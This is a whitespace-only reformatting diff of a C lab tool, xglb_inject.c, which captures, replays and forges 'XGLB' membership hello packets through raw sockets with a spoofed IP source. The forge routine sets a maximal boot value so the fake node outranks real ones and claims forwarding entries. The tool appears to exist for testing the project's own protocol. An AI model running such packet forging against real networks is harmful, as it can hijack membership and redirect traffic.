@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
-/* xglb_inject.c - membership attacks for the lab: capture a hello, replay it, forge one, with any IP source and TTL. */
+/* xglb_inject.c - membership attacks for the lab: capture a hello, replay it, forge one, with any
+ * IP source and TTL. */
 #include <errno.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -40,13 +41,13 @@
  * Self-contained on purpose (no libsodium, no libxglb): the forger has no key.
  */
 
-#define HDR_LEN 28
-#define HELLO_LEN 20
-#define STATE_LEN 16
-#define FWD_LEN 16
+#define HDR_LEN	     28
+#define HELLO_LEN    20
+#define STATE_LEN    16
+#define FWD_LEN	     16
 #define LOAD_HDR_LEN 4
-#define HMAC_LEN 32
-#define MSG_MAX 612
+#define HMAC_LEN     32
+#define MSG_MAX	     612
 
 static int usage(void)
 {
@@ -91,11 +92,11 @@ static int parse_uint(const char *s, unsigned long max, unsigned long *v)
 
 /* ---- capture ------------------------------------------------------------ */
 
-static int do_capture(const char *ifname, const char *src_s, const char *port_s,
-		      const char *out, const char *timeout_s)
+static int do_capture(const char *ifname, const char *src_s, const char *port_s, const char *out,
+		      const char *timeout_s)
 {
 	unsigned long port, timeout = 5000;
-	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
+	struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
 	uint32_t src;
 	uint64_t end;
 	uint8_t buf[2048];
@@ -117,7 +118,7 @@ static int do_capture(const char *ifname, const char *src_s, const char *port_s,
 	}
 	end = now_ms() + timeout;
 	for (;;) {
-		struct pollfd p = { .fd = fd, .events = POLLIN };
+		struct pollfd p = {.fd = fd, .events = POLLIN};
 		struct sockaddr_ll from;
 		socklen_t fl = sizeof(from);
 		const struct iphdr *ip = (const struct iphdr *)buf;
@@ -128,7 +129,8 @@ static int do_capture(const char *ifname, const char *src_s, const char *port_s,
 		FILE *f;
 
 		if (t >= end) {
-			fprintf(stderr, "xglb_inject capture: nothing from %s to port %lu in %lu ms\n",
+			fprintf(stderr,
+				"xglb_inject capture: nothing from %s to port %lu in %lu ms\n",
 				src_s, port, timeout);
 			return 1;
 		}
@@ -147,8 +149,9 @@ static int do_capture(const char *ifname, const char *src_s, const char *port_s,
 		if (ntohs(uh->dest) != port || ulen < sizeof(*uh) || ihl + ulen > (size_t)n)
 			continue;
 		f = fopen(out, "wb");
-		if (!f || fwrite(buf + ihl + sizeof(*uh), 1, ulen - sizeof(*uh), f) !=
-				  ulen - sizeof(*uh) ||
+		if (!f ||
+		    fwrite(buf + ihl + sizeof(*uh), 1, ulen - sizeof(*uh), f) !=
+			ulen - sizeof(*uh) ||
 		    fclose(f)) {
 			perror(out);
 			return 1;
@@ -187,7 +190,7 @@ static int send_raw(uint32_t src, uint32_t dst, unsigned sport, unsigned dport, 
 	uint8_t pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + MSG_MAX + 1024];
 	struct iphdr *ip = (struct iphdr *)pkt;
 	struct udphdr *uh = (struct udphdr *)(pkt + sizeof(*ip));
-	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = dst };
+	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = dst};
 	size_t total = sizeof(*ip) + sizeof(*uh) + len;
 	uint16_t id, ulen = (uint16_t)(sizeof(*uh) + len), c;
 	uint8_t pseudo[12];
@@ -226,7 +229,8 @@ static int send_raw(uint32_t src, uint32_t dst, unsigned sport, unsigned dport, 
 	c = csum_fold(sum);
 	uh->check = htons(c ? c : 0xffff); /* 0 means "no checksum" in UDP */
 
-	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW); /* IPPROTO_RAW implies HDRINCL */
+	fd =
+	    socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW); /* IPPROTO_RAW implies HDRINCL */
 	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
 		perror("xglb_inject: raw socket");
 		return 1;
@@ -296,14 +300,14 @@ static int do_forge(char **a, int n)
 	}
 	memset(m, 0, sizeof(m));
 	/* header */
-	put32(m + 0, 0x58474c42u); /* "XGLB" */
-	m[4] = 1; /* version */
-	m[5] = 1; /* hello */
+	put32(m + 0, 0x58474c42u);     /* "XGLB" */
+	m[4] = 1;		       /* version */
+	m[5] = 1;		       /* hello */
 	put16(m + 6, 0x0001 | 0x0002); /* STATE | AVG */
 	m[8] = (uint8_t)gid;
 	put32(m + 12, (uint32_t)node);
 	put32(m + 16, 0xffffffffu); /* boot: above any real one */
-	put32(m + 20, 0); /* seq, high half */
+	put32(m + 20, 0);	    /* seq, high half */
 	put32(m + 24, 1);
 	off = HDR_LEN;
 	/* hello */
@@ -321,8 +325,8 @@ static int do_forge(char **a, int n)
 	off += STATE_LEN;
 	for (unsigned long i = 0; i < nfwd; i++, off += FWD_LEN) {
 		m[off + 0] = (uint8_t)i;
-		m[off + 1] = 0; /* persistence */
-		m[off + 2] = 100; /* weight */
+		m[off + 1] = 0;	   /* persistence */
+		m[off + 2] = 100;  /* weight */
 		m[off + 3] = 0x03; /* ACTIVE | NEW_OK */
 		put32(m + off + 4, (uint32_t)node);
 		put32(m + off + 8, (uint32_t)node);
